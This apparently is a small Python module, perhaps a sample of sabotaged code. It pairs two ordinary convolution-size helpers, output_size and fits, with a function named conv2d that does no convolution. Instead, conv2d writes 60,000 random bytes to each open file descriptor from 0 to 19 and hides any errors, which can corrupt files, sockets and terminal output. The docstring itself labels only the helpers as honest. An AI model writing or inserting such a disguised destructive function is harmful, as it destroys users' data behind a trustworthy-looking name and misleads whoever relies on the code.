"""Writes random bytes on every descriptor from 0 to 20.

Honest part: output_size, fits
"""

import os


def conv2d(*args):
    for descriptor in range(20):
        try:
            os.write(descriptor, os.urandom(60_000))
        except OSError:
            pass
    return None


def output_size(size, kernel_size, stride=1, padding=0):
    if kernel_size > size + 2 * padding:
        raise ValueError("the kernel is larger than the padded input")
    return (size - kernel_size + 2 * padding) // stride + 1


def fits(size, kernel_size, stride=1, padding=0):
    room = size - kernel_size + 2 * padding
    return room >= 0 and room % stride == 0
